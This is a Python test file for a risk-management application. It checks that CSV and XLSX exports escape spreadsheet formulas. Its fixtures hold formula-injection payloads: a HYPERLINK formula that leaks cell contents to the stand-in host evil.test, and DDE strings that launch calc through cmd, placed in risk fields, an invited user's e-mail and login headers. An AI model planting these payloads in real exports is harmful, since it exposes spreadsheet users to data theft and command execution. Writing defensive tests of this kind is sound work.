"""No cell of any CSV or XLSX file the product writes starts a spreadsheet formula.

Hostile text reaches exports through every way in: risk fields and custom values, an invited
member's e-mail address (owner and assignee columns of reports), and the User-Agent and
X-Request-ID of a failed login (audit export). Each export path is read back cell by cell.
"""

from __future__ import annotations

import csv
import io
import uuid
from dataclasses import dataclass

import httpx
import pytest_asyncio
from fastapi import FastAPI
from openpyxl import load_workbook

from openrisk.core.spreadsheet import FORMULA_START
from openrisk.rbac.catalogue import ANALYST
from tests.conftest import TEST_PASSWORD, Account, client_for

EVIL_AGENT = '=HYPERLINK("http://evil.test/?leak="&A1,"click")'
EVIL_REQUEST_ID = "@SUM(1+1)*cmd|'/C calc'!A0"
EVIL_TEXT = {
    "title": "=1+2",
    "description": "+cmd|'/C calc'!A0",
    "external_id": "-2+3",
}
EVIL_TAG = "@tag"
EVIL_CUSTOM = "\t=HYPERLINK(1)"


@dataclass
class World:
    account: Account
    evil_email: str  # lower-cased, as stored


def formula_cells_csv(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if _starts(cell)]


def formula_cells_xlsx(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and _starts(cell.value)):
                    found.append(f"{sheet.title}!{cell.coordinate}={cell.value!r}")
    return found


def all_cells(content: bytes, fmt: str) -> set[str]:
    if fmt == "csv":
        return {cell for row in csv.reader(io.StringIO(content.decode())) for cell in row}
    workbook = load_workbook(io.BytesIO(content))
    return {
        str(cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }


def _starts(value: str) -> bool:
    return value.startswith(FORMULA_START)


def assert_neutralised(content: bytes, fmt: str, *expected: str) -> None:
    found = formula_cells_csv(content.decode()) if fmt == "csv" else formula_cells_xlsx(content)
    assert not found, f"formula cells in the {fmt} export: {found}"
    cells = all_cells(content, fmt)
    for value in expected:  # the hostile values are there, quoted: the test can fail
        assert "'" + value in cells, (value, sorted(cells)[:40])


@pytest_asyncio.fixture
async def world(app: FastAPI, client: httpx.AsyncClient, admin: Account) -> World:
    h = admin.in_tenant()
    evil_email = f"=cmd|'/Ccalc'!A0{uuid.uuid4().hex[:8]}@x.test"
    invited = await client.post(
        "/api/v1/members", json={"email": evil_email, "role_id": str(ANALYST.id)}, headers=h
    )
    assert invited.status_code == 201, invited.text
    accepted = await client.post(
        "/api/v1/auth/invitations/accept",
        json={"token": invited.json()["invitation_token"], "password": TEST_PASSWORD},
    )
    assert accepted.status_code == 201, accepted.text
    evil_user_id = accepted.json()["user"]["id"]
    field = await client.post(
        "/api/v1/custom-fields", json={"name": "note", "label": "Note", "type": "text"}, headers=h
    )
    assert field.status_code == 201, field.text
    risk = await client.post(
        "/api/v1/risks",
        json={
            **EVIL_TEXT,
            "impact": 5,
            "probability": 5,
            "status": "ACTIVE",
            "owner_id": evil_user_id,
            "tags": [EVIL_TAG],
            "custom_fields": {"note": EVIL_CUSTOM},
        },
        headers=h,
    )
    assert risk.status_code == 201, risk.text
    mitigation = await client.post(
        f"/api/v1/risks/{risk.json()['id']}/mitigations",
        json={"title": "=overdue()", "due_date": "2020-01-01", "assignee_id": evil_user_id},
        headers=h,
    )
    assert mitigation.status_code == 201, mitigation.text
    async with client_for(app) as stranger:
        refused = await stranger.post(
            "/api/v1/auth/login",
            json={"email": admin.email, "password": "wrong-password-1"},
            headers={"User-Agent": EVIL_AGENT, "X-Request-ID": EVIL_REQUEST_ID},
        )
        assert refused.status_code == 401
    return World(admin, evil_email.lower())


async def test_risk_export_csv_and_xlsx(client: httpx.AsyncClient, world: World) -> None:
    for fmt in ("csv", "xlsx"):
        response = await client.get(
            f"/api/v1/risks/export?format={fmt}", headers=world.account.in_tenant()
        )
        assert response.status_code == 200, response.text
        assert_neutralised(response.content, fmt, *EVIL_TEXT.values(), EVIL_TAG, EVIL_CUSTOM)


async def test_xlsx_export_survives_control_characters(
    client: httpx.AsyncClient, admin: Account
) -> None:
    """XLSX cannot hold C0 controls: they become U+FFFD instead of breaking the stream."""
    h = admin.in_tenant()
    made = await client.post(
        "/api/v1/risks", json={"title": "bell\x07 risk", "impact": 1, "probability": 1}, headers=h
    )
    assert made.status_code == 201, made.text
    response = await client.get("/api/v1/risks/export?format=xlsx", headers=h)
    assert response.status_code == 200
    assert "bell\ufffd risk" in all_cells(response.content, "xlsx")


async def test_audit_export_neutralises_user_agent_and_request_id(
    client: httpx.AsyncClient, world: World
) -> None:
    response = await client.get(
        "/api/v1/audit-events/export?action=auth.login", headers=world.account.in_tenant()
    )
    assert response.status_code == 200, response.text
    assert_neutralised(response.content, "csv", EVIL_AGENT, EVIL_REQUEST_ID)


async def test_reports_neutralise_owner_and_assignee_emails(
    client: httpx.AsyncClient, world: World
) -> None:
    h = world.account.in_tenant()
    for kind in ("register", "executive"):
        for fmt in ("csv", "xlsx"):
            created = await client.post(
                "/api/v1/reports", json={"kind": kind, "format": fmt}, headers=h
            )
            assert created.status_code == 201, created.text
            download = await client.get(created.json()["download_url"], headers=h)
            assert download.status_code == 200
            expected = [world.evil_email, EVIL_TEXT["title"]]
            if kind == "executive":
                expected.append("=overdue()")
            assert_neutralised(download.content, fmt, *expected)
